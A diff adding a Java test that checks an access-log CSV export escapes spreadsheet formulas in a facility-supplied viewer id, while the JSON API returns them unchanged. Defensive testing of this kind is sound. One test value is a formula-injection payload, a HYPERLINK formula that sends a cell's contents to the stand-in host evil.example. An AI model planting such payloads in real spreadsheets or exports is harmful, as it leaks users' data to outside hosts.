@@ -540,6 +540,37 @@ abstract class AccessHistoryScenarios extends HttpTest {
     assertThat(texts(denied.at("/items/0/reasons"))).containsExactly("FACILITY_SUSPENDED");
   }
 
+  /**
+   * A facility's system chooses the viewer id; a spreadsheet opening the export must not run it as
+   * a formula. The JSON answer keeps it as it was sent.
+   */
+  @Test
+  void aHostileViewerId_isExportedAsTextNotAsAFormula() {
+    InvestigationWorld world = new InvestigationWorld(api());
+    String municipality = InvestigationWorld.municipality();
+    Place place = world.registeredFacility(municipality);
+    world.activate(municipality, "2024-02-01", "2024-02-29");
+    String consent = world.consent(place, "F-1", false, "INSURED_NUMBER", at(3, 8, 0));
+    String hostile = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
+    List<String> others = List.of("+1+1", "-1+1", "@SUM(A1:A2)");
+    world.view(place, "f-0", hostile, "DOCTOR", "F-1", MED, consent, at(3, 9, 0));
+    for (int i = 0; i < others.size(); i++) {
+      world.view(place, "f-" + (i + 1), others.get(i), "DOCTOR", "F-1", MED, consent, at(3, 10, i));
+    }
+    world.awaitAttempts(place.facilityCode(), 4);
+
+    String text = csv(place.facilityCode());
+    assertThat(text).contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\"");
+    List<List<String>> rows = SimpleCsv.parse(text.substring(1));
+    int viewer = rows.get(0).indexOf("viewerId");
+    assertThat(rows.stream().skip(1).map(r -> r.get(viewer)))
+        .containsExactlyInAnyOrder("'" + hostile, "'+1+1", "'-1+1", "'@SUM(A1:A2)");
+    assertThat(
+            allItems(world, fund(), place.facilityCode(), "").stream()
+                .map(i -> i.get("viewerId").asText()))
+        .containsExactlyInAnyOrder(hostile, "+1+1", "-1+1", "@SUM(A1:A2)");
+  }
+
   private String csv(String facilityCode) {
     Api.Reply reply = fund().get("/api/facilities/" + facilityCode + "/accesses.csv");
     assertThat(reply.status()).isEqualTo(200);
